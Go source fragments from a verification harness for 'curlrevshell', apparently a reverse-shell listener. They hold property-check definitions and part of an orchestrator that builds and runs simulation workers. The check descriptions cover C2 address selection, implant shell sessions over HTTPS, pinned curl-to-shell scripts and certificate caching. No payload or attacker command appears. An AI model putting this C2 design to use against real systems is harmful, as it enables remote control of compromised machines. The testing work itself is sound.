const layerARule = "one evaluation = one simulated run (one synctest bubble) of a generated action sequence: attempts on ConnectIn/ConnectOut/ConnectInOut, grants of parked lock sections in PRNG order, operator lines, scripted read/write/flush completions and faults, cancellations, shutdown; distinct = distinct hash of (configuration, action sequence); non-trivial = the run contains at least one injected fault (transport error, cancel, shutdown, input closed) or at least two goroutines parked at broker lock sections at once"

const layerAStates = "abstract state = (which directions the model has attached, tearing down, shutdown requested/applied, number of callers parked at admission (capped at 3) and at release, input writer parked, operator channel full, lines pending, lock section busy, input closed); transitions = (abstract state, action kind)"

var checks = []checkDef{
	{ID: "C01", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"attempt_in_teardown_window", "attempt_in_shutdown", "refused_refuse", "teardown_window_entered"}},
	{ID: "C02", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"lines_delivered", "line_lost_to_own_error", "line_64k", "line_multiline", "write_err", "flush_err", "write_short"}},
	{ID: "C03", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"output_ended_by_itself", "data_with_terminal_error", "read_burst_over_2k", "read_zero_len", "cancel_under_flood_stalled"}},
	{ID: "C04", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"generations", "cancel_under_flood_stalled", "teardown_window_entered", "shutdown", "input_closed", "client_cancel"}},
	{ID: "C06", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Rule:         layerARule + "; in addition every grant order of the halves of 2 and 3 simultaneous /io requests (24 and 720 orders) on four base states (idle, unidirectional input attached, unidirectional shell attached, unidirectional shell being torn down) is enumerated completely in both tiers (probe enum_cases)",
		StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"enum_cases", "io_shell_ready", "io_attempts"}},
	{ID: "C11", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"lines_delivered", "refused_refuse", "refused_silent", "line_arbitrary_bytes"}},
}
