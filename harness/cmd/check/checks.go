package main

// checkDef describes how one property is checked.
type checkDef struct {
	ID           string
	Engine       string // directory under harness/workers
	Level        string
	Workers      int
	GOMAXPROCS   int
	QuickMS      int64 // search budget per worker
	ThoroughMS   int64
	SelftestRuns int
	NoSelftest   string // reason, where a determinism self-test does not apply
	Exhaustible  bool   // the engine enumerates a finite space completely
	Args         map[string]string
	Rule         string
	StateMeasure string
	Assumptions  []string
	RealStub     map[string]string
	MustProbe    []string
	Also         []also // facets of the property that live in another engine
}

type also struct {
	Engine  string
	Workers int
	Why     string
}

var layerAReal = map[string]string{
	"real":   "internal/iobroker (New, Do, ConnectIn/Out/InOut, connect, proxyIn, proxyOut, events), log/slog JSON handler, context, sync",
	"stub":   "transport writers and readers, operator channels' other ends, callers, contexts' cancellation, order of the broker's lock sections (granted at the verif hook points), leak scan",
	"absent": "net/http, TLS, opshell (covered by the hsrv and opshell engines)",
}

var layerAAssume = []string{
	"The Go scheduler runs the real code between two quiescent points; the simulator decides order only at the hook points, the seams and the operator channels.",
	"Oracles classify operator notices structurally ([addr] prefix, colour, exported constants) and never by wording.",
	"Built with Go 1.26.8 (testing/synctest); the repository's own suite runs with the default toolchain.",
}

const layerARule = "one evaluation = one simulated run (one synctest bubble) of a generated action sequence: attempts on ConnectIn/ConnectOut/ConnectInOut, grants of parked lock sections in PRNG order, operator lines, scripted read/write/flush completions and faults, cancellations, shutdown; distinct = distinct hash of (configuration, action sequence); non-trivial = the run contains at least one injected fault (transport error, cancel, shutdown, input closed) or at least two goroutines parked at broker lock sections at once"

const layerAStates = "abstract state = (which directions the model has attached, tearing down, shutdown requested/applied, number of callers parked at admission (capped at 3) and at release, input writer parked, operator channel full, lines pending, lock section busy, input closed); transitions = (abstract state, action kind)"

var layerBReal = map[string]string{
	"real": "internal/hsrv (New incl. address handling and one-liner formatting, Server.Do, mux, every handler, script template handling), internal/iobroker, lib/sstls (certificate generation, cache file on a real private directory), net/http server, crypto/tls (both ends), text/template, slog",
	"stub": "TCP (in-memory simnet; the socket sstls.Listen binds is closed unread after its address has been taken over), clients (raw HTTP/1.x writer + http.ReadResponse over crypto/tls), curl and /bin/sh executing the script (stub that performs the script's two pinned requests), operator, wall clock (bubble clock), main's wiring",
	"note": "the order of broker lock sections is not steered here (Layer A does that); stimuli are applied one at a time and run to quiescence",
}

var layerBAssume = []string{
	"Pins are computed by the harness as base64(sha256(RawSubjectPublicKeyInfo)) of the leaf certificate received in a real TLS handshake, as curl --pinnedpubkey does.",
	"net/http keeps a handler's connection busy until a blocked request-body read returns, so the simulated client always ends its upload in the step in which the server side is expected to finish (otherwise a sync.Mutex wait would keep the bubble from quiescing).",
	"Built with Go 1.26.8 (testing/synctest).",
}

const layerBRule = "one evaluation = one simulated run (one synctest bubble) of a generated history: server boots and stops over one disk directory (listen address forms, cache on/off, callback addresses, files dir, template file, -one-shell), GET/POST /c with every combination of c2 parameter/header, Host, SNI and HTTP/1.0, template file edits, shell sessions over /i,/o and /io with refused attempts, operator lines, output chunks, client closes and resets, fake-clock sleeps; distinct = distinct hash of (configuration, action sequence); non-trivial = at least one fault (template damaged/missing, cache deleted, connection reset or closed)"

var checks = []checkDef{
	{ID: "C05", Engine: "hsrvsim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 60,
		Rule: layerBRule, Assumptions: layerBAssume, RealStub: layerBReal,
		MustProbe: []string{"fingerprints_checked", "boots_with_cache", "scripts_run", "cache_deleted", "cache_replaced_while_running", "cache_holds_a_chain", "tls_handshakes"}},
	{ID: "C07", Engine: "hsrvsim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 60,
		Rule: layerBRule, Assumptions: layerBAssume, RealStub: layerBReal,
		MustProbe: []string{"c2_from_param", "c2_from_header", "c2_from_host", "c2_from_sni", "c2_out_of_ideas", "sni_port_443", "scripts_run", "template_unparsable", "template_missing", "template_exec_error", "template_unreadable", "script_bursts", "script_answers_held", "template_same_mtime"}},
	{ID: "C12", Engine: "hsrvsim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 60,
		Also: []also{{Engine: "procsim", Workers: 2, Why: "the process half of the property, with the binary built by the repository's default toolchain: one-shell family of real processes under a pty (two unidirectional streams, /io, refused and half-attached attempts first, a connection made early that sends its request late or never): new connections refused after the ready notice, exit by itself with status 0 at the next entered line, no fatal error, terminal mode restored"}},
		Rule: layerBRule, Assumptions: layerBAssume, RealStub: layerBReal,
		MustProbe: []string{"one_shell_ready", "one_shell_finished", "one_shell_finished_by_itself", "refused_over_http", "io_sessions", "lines_over_http", "request_on_old_connection_after_listener_closed", "normal_exit_one_shell_straggler", "one_shell_new_connect_refused"}},
	{ID: "C01", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Also: []also{{Engine: "hsrvsim", Workers: 4, Why: "the same property observed through the real net/http server, chunked encoding and TLS (refused attempts end at once and get nothing, lines reach the client at the quiescent point, output displayed byte-exact, peer stream ended)"}},
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"attempt_in_teardown_window", "attempt_in_shutdown", "refused_refuse", "teardown_window_entered", "refused_over_http", "refused_upload_keeps_going"}},
	{ID: "C02", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Also: []also{{Engine: "hsrvsim", Workers: 3, Why: "the same property observed through the real net/http server, chunked encoding and TLS (refused attempts end at once and get nothing, lines reach the client at the quiescent point, output displayed byte-exact, peer stream ended)"}, {Engine: "termsim", Workers: 2, Why: "typed lines and Ctrl+I inserts (multi-line payload as exactly one entry) through the real line editor onto the input channel, with a Ctrl+I source that can be slow, fail or be empty and changes between key presses (an insert whose source was readable throughout must arrive in its place, one whose source failed throughout must not arrive, anything else may or may not)"}},
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"lines_delivered", "line_lost_to_own_error", "line_64k", "line_multiline", "write_err", "flush_err", "write_short", "lines_over_http", "conn_reset_with_lines_in_flight", "ctrl_i", "input_channel_drained", "insert_source_err", "insert_source_slow", "failed_insert_behind_slow_insert", "line_typed_behind_slow_insert"}},
	{ID: "C03", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Also: []also{{Engine: "hsrvsim", Workers: 4, Why: "the same property observed through the real net/http server, chunked encoding and TLS (refused attempts end at once and get nothing, lines reach the client at the quiescent point, output displayed byte-exact, peer stream ended)"}, {Engine: "termsim", Workers: 2, Why: "shell output on the operator's terminal itself: each chunk written byte for byte in one piece, nothing held back (incomplete UTF-8 tails, control bytes)"}},
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"output_ended_by_itself", "data_with_terminal_error", "read_burst_over_2k", "read_zero_len", "cancel_under_flood_stalled"}},
	{ID: "C04", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Also: []also{{Engine: "hsrvsim", Workers: 4, Why: "the same property observed through the real net/http server, chunked encoding and TLS (refused attempts end at once and get nothing, lines reach the client at the quiescent point, output displayed byte-exact, peer stream ended)"}, {Engine: "termsim", Workers: 1, Why: "the last leg of every announcement: status lines (which is what the closure, ready and gone notices are) reach the terminal whatever the mute state and whatever is queued around them"}},
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"generations", "cancel_under_flood_stalled", "teardown_window_entered", "shutdown", "input_closed", "client_cancel", "shutdown_while_lock_section_blocked", "status_while_muted"}},
	{ID: "C06", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Rule:         layerARule + "; in addition every grant order of the halves of 2 and 3 simultaneous /io requests (24 and 720 orders) on four base states (idle, unidirectional input attached, unidirectional shell attached, unidirectional shell being torn down) is enumerated completely in both tiers (probe enum_cases)",
		StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"enum_cases", "io_shell_ready", "io_attempts"}},
	{ID: "C13", Engine: "pinsim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 100,
		Rule:         "one evaluation = one simulated run (one synctest bubble): 4-10 HTTPS servers with keys from a pool (self-signed, chains of length 1-3 with the pinned key at leaf, intermediate or root position, chains that validate against the harness root and chains that do not, expired), and a history of 2-12 calls to the real simpleshell.Go through http.DefaultTransport pointed at the in-memory network, with every fingerprint spelling (plain, sha256// prefix, unpadded, wrong length, non-base64, hex, of another server, one bit flipped, none) and overlapping lifetimes (a harness Shell keeps each call streaming until the simulator ends it), connection resets; calls may use a name of their own or share the server's own host name and port (as a real process's calls to one curlrevshell do: TLS session caches and keep-alive connections are keyed by it), and a call allowed earlier is often followed by one to the same host with a wrong pin; every run starts after one finished pinned call to a canary server, so that hidden process-wide state shows in the first run too; distinct = hash of (configuration, action sequence); non-trivial = at least two different call configurations, or a malformed or wrong fingerprint",
		StateMeasure: "states = per call (class, spelling, matched chain roles, server kind, chain length, allowed, overlapped, after-pinned, faulted, success)",
		Assumptions:  []string{"servers offer only http/1.1", "ordinary validation = x509 verification of the presented chain against the harness root for the host name at the bubble's epoch", "a fingerprint that decodes to 32 bytes only under lenient/unpadded base64 is not judged for success or refusal (only the traffic rule applies)", "http.DefaultClient.Transport and the DefaultTransport seam are reset at both ends of every run so that runs are independent", "a dial to a shared host name is attributed to the call set going in that step (one call is set going per step and the bubble is quiescent before the next)"},
		RealStub:     map[string]string{"real": "simpleshell.Go, TLSFingerprintVerifier, http.DefaultClient, http.DefaultTransport and its clones, crypto/tls both sides, crypto/x509, net/http server", "stub": "network (simnet), clock (synctest), the Shell implementation, the curlrevshell side (record-and-echo handler), certificate authorities and chains"},
		MustProbe:    []string{"overlapping_calls", "pin_at_intermediate", "pin_at_root", "unpinned_call_after_pinned", "valid_chain_unpinned_ok", "malformed_fp", "wrong_pin", "wrong_pin_after_good_pin_same_host", "shared_host_again", "wrong_pin_after_unpinned_same_host"}},
	{ID: "C14", Engine: "cmdshellsim", Level: "exploration", Workers: 8, GOMAXPROCS: 2, QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 100,
		Rule:        "one evaluation = one real child process run through simpleshell.CmdShell under a generated plan: the child is a puppet (the worker binary re-executed) that writes counted patterns to stdout/stderr, closes descriptors, reads stdin to EOF, waits on observed states and exits with a chosen code; the input reader and the consumer of Output() follow seeded chunk sizes and gates on observed states (child reaped, Go returned, input done), never on sleeps; distinct = hash of the plan; non-trivial = the plan has a gate, a child-side wait, a non-zero exit or more than 4096 bytes of traffic. A plan that shows a violation is run four more times (twice if the plan contains a real-time wait) to tell a plan that always fails from an intermittent one. A second family of runs (about one in ten, plus a few 'nap' runs per worker) goes through the entry point the program uses, simpleshell.GoSimple, against an HTTPS/HTTP-2 server inside the worker on loopback that plays curlrevshell's /io side with a pinned fingerprint: the consumer is the handler reading the uploaded output, the input is the response body; in a nap run the child writes more than can be in flight and exits, and the consumer, seen to be behind, stands still for 1.5-2.5 s of real time (the engine's one real-time wait) before it reads on",
		Assumptions: []string{"real kernel processes and pipes: not a simulation; the verdict of the oracle is schedule-independent, so a miss is possible but a false alarm is not", "Linux /proc and FIONREAD on pipes; kernel pipe buffer >= 64 KiB (plans keep un-consumed output below 60000 bytes when the consumer waits for the child's exit)", "not bit-replayable: the replay file is the plan and reproduces through its observed-state gates", "loopback TCP is available; /proc/<pid>/task/<tid>/syscall is readable (otherwise the 'child blocked in write' gate falls back to a 50 ms wait after each read)"},
		RealStub:    map[string]string{"real": "simpleshell.CmdShell (NewCmdShell, SetInput, Output, Go), os/exec, kernel process, pipes and scheduler", "stub": "the child (puppet following a plan), the input reader and the consumer (harness code following the plan)"},
		MustProbe:   []string{"consumer_after_reap", "over_pipe_buffer", "exit_nonzero", "stderr_only", "zero_output", "child_reads_input_to_eof", "gosimple_runs", "gosimple_real_nap_after_exit", "backlog_beyond_c2_window_during_nap", "consumer_read_on_child_blocked"}},
	{ID: "C17", Engine: "fssim", Level: "exploration", QuickMS: 30000, ThoroughMS: 300000, SelftestRuns: 500,
		Rule:        "one evaluation = one generated case: a directory tree in a simulated fs.FS (regular files, sub-directories, valid and dangling symlinks, named pipes; names with spaces, glob characters, leading dots, several extensions, editor lock/backup names), a filter table (default and user-modified, marker filters so that the first matching pattern is visible), a per-entry fault plan (Stat/Open/Read errors, short reads) and 1-3 Converter.From calls, each made twice; one run in eight materialises the tree in a real temporary directory for the FS==nil path; distinct = hash of configuration and items; non-trivial = some judged call has at least two parts, an ineligible top-level entry or several sources. One run in three edits the filter table (remove, replace, add) between the calls of one Converter, the model following; 'overlap' steps run two or three From calls on one Converter at the same time, each held inside the simulated file system at a seeded operation and released in seeded order (exactly one goroutine runs at a time), and compare each with the same call made alone; one simulated run in six gives the file system a descriptor budget (8, 12 or 16 handles open at once, EMFILE beyond) in a directory with more eligible files than that",
		Assumptions: []string{"a conforming converter needs far fewer than 8 simultaneously open files (the unchanged code holds one per call)", "overlapping From calls on one Converter fall under 'the result is the same on every call while the files are unchanged' (the program makes such calls: Ctrl+J previews run beside Ctrl+I conversions)", "patterns are well-formed and contain no '/'; names are valid UTF-8", "valid symlinks to regular files are generated only under non-matching names (whether they count as regular files is not judged)", "dangling links under matching non-dot names, faults on the source directory itself and source directories whose own path contains glob characters are outside the statement's quantifier and not generated", "error text is read only to choose a finding's signature"},
		RealStub:    map[string]string{"real": "shellfuncsfile.Converter (From, from, fromDirectory, fromSingleFile, fromReader, SetFilter), FromShell/FromPerl/GenFuncList where the defaults are kept, io/fs (Sub, Glob, Stat, ReadFile, ReadDir), os.DirFS in one run of eight", "stub": "the file system (in-memory fs.FS with per-entry faults), marker filters"},
		MustProbe:   []string{"filter_removed_after_use", "file_of_removed_pattern_in_called_dir", "overlap_legs_parked", "overlap_call_completed_while_another_parked", "overlap_several_parked", "fd_budget_runs", "eligible_files_exceed_fd_budget", "real_dir_runs", "dangling_dot_matching_seen"}},
	{ID: "C19", Engine: "termsim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 150,
		Rule:        "one evaluation = one simulated operator session (one synctest bubble): opshell.New on the worker's pty, Shell.Do and the line editor, with typed keys (Ctrl+O, Ctrl+I, Ctrl+J, lines), shell-output and status lines, fake-clock sleeps with extra mass at the two-second pause interval (+-0, 1 ns, 1 ms, measured from the last shell output), floods, several mute cycles; 30 % of runs are lock-order schedules in which goroutines are parked at the verif yield points before/after the shell's write lock and inside the Ctrl+O callback and released singly or all at once; distinct = hash of (configuration, action sequence); non-trivial = at least one Ctrl+O",
		Assumptions: []string{"the mute model's clock is judged only in runs where nothing is parked; an exact tie between a shell-output arrival and the un-mute instant ends timing judgement for that run", "the un-mute announcement is recognised as a terminal write that happens by itself during a sleep and carries no harness token, never by its wording", "a deadlock verdict needs proof from two goroutine dumps 300 ms apart (nothing runnable in the bubble, two or more goroutines in sync.Mutex.Lock with opshell/goxterm frames, nothing parked by the simulator); anything else that is stuck is exit 2"},
		RealStub:    map[string]string{"real": "lib/opshell (New on a real pty incl. raw mode, Do, handleOutput, writePlain, Logf, insert, the silence timer), goxterm line editor, time (bubble clock)", "stub": "the terminal's byte streams (VerifStdio seam), the operator channels' other ends, the order of lock acquisitions in lock-order runs (VerifYield)"},
		MustProbe:   []string{"mute_cycles", "unmuted_by_calm", "announcement_seen", "plain_while_muted", "status_while_muted", "ctrl_o_while_muted", "grant_all", "parked_ctrlo", "ctrl_i"}},
	{ID: "C20", Engine: "procsim", Level: "fault_enumeration", Workers: 8, GOMAXPROCS: 4, QuickMS: 240000, ThoroughMS: 600000, SelftestRuns: 30, Exhaustible: true,
		Rule:        "one evaluation = one real process of the binary built from /repo (no verif tag), started under a fresh pty (or in a new session without controlling terminal), with a set of injected start-up faults; every single fault of the classes {no TTY, listen address unparsable/unresolvable/in use, cache truncated/garbage/sections swapped/below a file/is a directory, log path is a directory/below a file, missing Ctrl+I source} and every non-contradicting pair, each with no informational flag, -print-default-template, -print-ctrl-i and -h, with and without a TTY, plus normal exits by Ctrl+C, Ctrl+D and completed -one-shell in six termios variants: enumerated completely in both tiers; non-trivial = at least one fault or a normal-exit scenario",
		Assumptions: []string{"process level: the binary, kernel, pty, loopback TCP and file system are real; the scheduler half of the technique has nothing to control here", "start-up counts as finished when a sha256// token appears on the pty", "all waits are event-driven with a 60 s cap (cap hit = exit 2); only 'does not exit by itself within 30 s' is judged", "cache_dir_unwritable is not generated when running as root"},
		RealStub:    map[string]string{"real": "the curlrevshell binary (package main, opshell incl. raw mode and restore, hsrv.New, sstls), kernel pty and line discipline, file system, loopback TCP/TLS", "stub": "nothing; a small Go TLS client plays the implant for the -one-shell exit"},
		MustProbe:   []string{}},
	{ID: "C08", Engine: "certdisk", Level: "fault_enumeration", QuickMS: 40000, ThoroughMS: 300000, SelftestRuns: 300,
		Also:         []also{{Engine: "hsrvsim", Workers: 2, Why: "restart histories of the whole server over one cache file (with deletions): a boot that finds the cache in place serves the identity of the boot that created it"}},
		Rule:         "one evaluation = one case: a first boot (the real sstls.Listen) on an empty private root that creates the cache, then a list of history steps (boot, boot without cache, delete, restore, crash_prefix k, crash_zerotail k, corrupt offset/mask, crash_dirs n), every boot observed through a real TLS 1.3 handshake and judged (served identity, advertised fingerprint, file bytes/inode/mtime before and after, modes); enumerated completely in both tiers: nesting depths 0-4, every prefix length 0..1100 (>= every file length), zero-tail at 64-byte steps, single-byte corruption (quick: every 7th offset, mask 0x01; thorough: every offset x masks 0x01/0x20/0x80), every directory-chain prefix; the rest of the budget goes to seeded random histories of 2-8 steps; non-trivial = at least one damage fault actually landed",
		StateMeasure: "states = (cache or no-cache boot, file class intact/truncated/zero-tailed/corrupted/missing, boot ok/err, file result); transitions = (file class, operation)",
		Assumptions:  []string{"crash states are modelled as prefix, zero-tail, or only some directories existing; no reordered or partial-sector writes", "the cache bytes are made a function of the case by seeding crypto randomness (testing/cryptotest.SetGlobalRandom) and running under the bubble's fake clock", "umask 0 in the worker; identity = base64(sha256(RawSubjectPublicKeyInfo)) computed by the harness from the handshake"},
		RealStub:     map[string]string{"real": "sstls.Listen, GetCertificate, LoadCachedCertificate, SaveCertificate, txtar, crypto/tls (both ends), x509; the file system under the worker's scratch directory", "stub": "transport under TLS (buffered in-memory pipe swapped in under the TLS listener; the real socket is closed unread), clock (synctest), crypto randomness (seeded), crash and corruption states (written by the harness)"},
		MustProbe:    []string{"crash_prefix", "crash_zerotail", "corrupt_cert", "corrupt_key", "corrupt_header", "crash_dirs", "delete", "regenerated", "harmless_corruption_loaded"}},
	{ID: "C11", Engine: "brokersim", Level: "exploration", QuickMS: 40000, ThoroughMS: 600000, SelftestRuns: 200,
		Also: []also{{Engine: "procsim", Workers: 1, Why: "the log file itself, written by the real binary (repository's default toolchain) under a pty: named by -log and by the environment, created with mode 0600, appended to across two sessions and to a file that existed before, every line one JSON object, and the lines a shell session's transcript (operator lines as the implant received them, output as it sent it, one connect and one disconnect per direction, one refusal at error level)"}},
		Rule: layerARule, StateMeasure: layerAStates, Assumptions: layerAAssume, RealStub: layerAReal,
		MustProbe: []string{"lines_delivered", "refused_refuse", "refused_silent", "line_arbitrary_bytes", "log_appended_to_existing", "log_created_0600", "log_session_reconstructed"}},
}
