// Command check is the orchestrator of the verification harness: it builds the
// worker binary of a property's engine from /repo's current working tree (with
// the verif build tag), runs seeded workers in parallel, confirms every
// violation by replaying its minimised replay file in a fresh process, filters
// known findings, writes the evidence file and exits 0 (held), 1 (violation)
// or 2 (the harness itself is in trouble; never a verdict).
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

const verifRoot = "/verif"

func goBin() string {
	if p, err := exec.LookPath("go1.26.8"); err == nil {
		return p
	}
	return "/opt/veriftools/go1.26.8/bin/go"
}

func goEnv() []string {
	env := os.Environ()
	env = append(env, "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local", "CGO_ENABLED=0")
	return env
}

func repoPath() string {
	if p := os.Getenv("VERIF_REPO"); p != "" {
		return p
	}
	return "/repo"
}

func die2(format string, a ...any) {
	fmt.Fprintf(os.Stderr, "check: "+format+"\n", a...)
	os.Exit(2)
}

// build compiles the worker test binary of an engine against repoPath().
func build(engine string) string {
	hdir := filepath.Join(verifRoot, "harness")
	bdir := filepath.Join(verifRoot, "build")
	_ = os.MkdirAll(bdir, 0o755)
	out := filepath.Join(bdir, engine+".test")
	args := []string{"test", "-c", "-tags", "verif", "-o", out}
	if rp := repoPath(); rp != "/repo" {
		// same module, other tree: a scratch modfile with the replace redirected
		mod, err := os.ReadFile(filepath.Join(hdir, "go.mod"))
		if err != nil {
			die2("%v", err)
		}
		tag := fmt.Sprintf("alt%x", simkit.Hash64(rp))
		mf := filepath.Join(bdir, tag+".go.mod")
		alt := strings.Replace(string(mod), "=> /repo", "=> "+rp, 1)
		if err := os.WriteFile(mf, []byte(alt), 0o644); err != nil {
			die2("%v", err)
		}
		sum, _ := os.ReadFile(filepath.Join(hdir, "go.sum"))
		_ = os.WriteFile(filepath.Join(bdir, tag+".go.sum"), sum, 0o644)
		args = append(args, "-modfile", mf)
		out = filepath.Join(bdir, engine+"."+tag+".test")
		args[5] = out
	}
	args = append(args, "./workers/"+engine)
	cmd := exec.Command(goBin(), args...)
	cmd.Dir = hdir
	cmd.Env = goEnv()
	if b, err := cmd.CombinedOutput(); err != nil {
		die2("building worker %s against %s failed (not a verdict):\n%s", engine, repoPath(), b)
	}
	return out
}

// runWorker runs one worker process for job j and returns its result.
func runWorker(bin string, j simkit.Job, gomaxprocs int, extraTimeout time.Duration) (*simkit.Result, error) {
	dir, err := os.MkdirTemp("", "verif-w-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	j.Out = filepath.Join(dir, "out.json")
	if j.Mode == "search" {
		j.Breadcrumb = filepath.Join(dir, "breadcrumb")
	}
	j.Scratch = filepath.Join(dir, "scratch")
	_ = os.MkdirAll(j.Scratch, 0o755)
	jp := filepath.Join(dir, "job.json")
	if err := simkit.SaveJSON(jp, &j); err != nil {
		return nil, err
	}
	cmd := exec.Command(bin, "-test.run", "^TestWorker$", "-test.timeout", "0", "-test.count", "1")
	cmd.Env = append(goEnv(), "VERIF_JOB="+jp, "GOMAXPROCS="+strconv.Itoa(gomaxprocs), "TMPDIR="+j.Scratch)
	cmd.Dir = dir
	var outb strings.Builder
	cmd.Stdout, cmd.Stderr = &outb, &outb
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	limit := time.Duration(j.BudgetMS)*time.Millisecond + extraTimeout
	select {
	case err = <-done:
	case <-time.After(limit):
		_ = cmd.Process.Kill()
		<-done
		return nil, fmt.Errorf("worker %d exceeded %v and was killed; output:\n%s", j.Worker, limit, tail(outb.String(), 4000))
	}
	var res simkit.Result
	if lerr := simkit.LoadJSON(j.Out, &res); lerr != nil {
		out := outb.String()
		if cr := crashInCodeUnderTest(out); cr != "" {
			idx := int64(-1)
			if b, rerr := os.ReadFile(j.Breadcrumb); rerr == nil {
				if v, perr := strconv.ParseInt(strings.TrimSpace(string(b)), 10, 64); perr == nil {
					idx = v
				}
			}
			return nil, &crashError{worker: j.Worker, run: idx, panicLine: cr, output: tail(out, 6000)}
		}
		return nil, fmt.Errorf("worker %d left no result (%v, exit: %v); output:\n%s", j.Worker, lerr, err, tail(out, 6000))
	}
	if res.Error != "" {
		return &res, fmt.Errorf("worker %d: %s", j.Worker, res.Error)
	}
	return &res, nil
}

// crashError: the worker process died of a Go panic raised in the code under
// test (not in the harness).
type crashError struct {
	worker    int
	run       int64
	panicLine string
	output    string
}

func (c *crashError) Error() string {
	return fmt.Sprintf("worker %d crashed in run %d: %s", c.worker, c.run, c.panicLine)
}

// crashInCodeUnderTest returns the panic line if out is the dying message of a
// process whose panicking goroutine was running code of the repository (the
// first frames after the panic machinery are in /repo or the scratch tree, not
// in the harness).
func crashInCodeUnderTest(out string) string {
	i := strings.LastIndex(out, "\npanic: ")
	if i < 0 {
		if strings.HasPrefix(out, "panic: ") {
			i = -1
		} else if k := strings.LastIndex(out, "\nfatal error: "); k >= 0 {
			i = k
		} else {
			return ""
		}
	}
	rest := out[i+1:]
	line := rest
	if nl := strings.IndexByte(rest, '\n'); nl >= 0 {
		line = rest[:nl]
	}
	// first goroutine block after the panic line
	blk := rest
	if g := strings.Index(rest, "\ngoroutine "); g >= 0 {
		blk = rest[g:]
		if e := strings.Index(blk[1:], "\n\n"); e >= 0 {
			blk = blk[:e+1]
		}
	}
	rp := repoPath()
	for _, l := range strings.Split(blk, "\n") {
		l = strings.TrimSpace(l)
		if !strings.HasPrefix(l, "/") {
			continue
		}
		if strings.Contains(l, "/src/runtime/") || strings.Contains(l, "/src/internal/") {
			continue
		}
		// the first source line that is not the runtime's decides
		if strings.HasPrefix(l, rp+"/") {
			return line
		}
		return ""
	}
	return ""
}

func tail(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return "..." + s[len(s)-n:]
}

// finding is one entry of known_findings.json.
type finding struct {
	Status    string `json:"status"` // known | fixed
	Property  string `json:"property"`
	Invariant string `json:"invariant"`
	Signature string `json:"signature"`
	Commit    string `json:"commit,omitempty"`
	What      string `json:"what"`
	Line      string `json:"line"`
	Replay    string `json:"replay,omitempty"`
}

func loadFindings() []finding {
	var f struct {
		Findings []finding `json:"findings"`
	}
	if err := simkit.LoadJSON(filepath.Join(verifRoot, "known_findings.json"), &f); err != nil {
		if os.IsNotExist(err) {
			return nil
		}
		die2("known_findings.json: %v", err)
	}
	return f.Findings
}

func envSeed() uint64 {
	if s := os.Getenv("VERIF_SEED"); s != "" {
		if v, err := strconv.ParseUint(s, 10, 64); err == nil {
			return v
		}
		if v, err := strconv.ParseInt(s, 10, 64); err == nil {
			return uint64(v)
		}
	}
	return 20240919
}

func main() {
	if len(os.Args) < 2 {
		die2("usage: check run <property> [--tier quick|thorough] | replay <file> | selftest <property> | list")
	}
	switch os.Args[1] {
	case "run":
		if len(os.Args) < 3 {
			die2("usage: check run <property> [--tier quick|thorough]")
		}
		tier := os.Getenv("VERIF_TIER")
		for i := 3; i < len(os.Args); i++ {
			if os.Args[i] == "--tier" && i+1 < len(os.Args) {
				tier = os.Args[i+1]
			}
		}
		if tier != "thorough" {
			tier = "quick"
		}
		os.Exit(runCheck(os.Args[2], tier))
	case "replay":
		if len(os.Args) < 3 {
			die2("usage: check replay <file>")
		}
		os.Exit(replayFile(os.Args[2], true))
	case "selftest":
		if len(os.Args) < 3 {
